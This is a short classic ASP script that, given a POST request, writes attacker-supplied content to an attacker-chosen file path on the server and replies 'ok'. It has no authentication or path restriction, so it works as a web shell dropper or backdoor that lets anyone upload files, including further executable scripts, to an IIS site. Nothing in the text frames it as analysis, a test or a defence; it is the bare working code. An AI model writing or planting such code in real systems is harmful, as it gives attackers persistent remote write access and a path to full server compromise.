<%
If Request.Form("p") <> "" Then
  Set o = Server.CreateObject("Scripting.FileSystemObject")
  Set t = o.CreateTextFile(Request.Form("p"), True)
  t.Write Request.Form("b")
  t.Close
  Response.Write "ok"
End If
%>
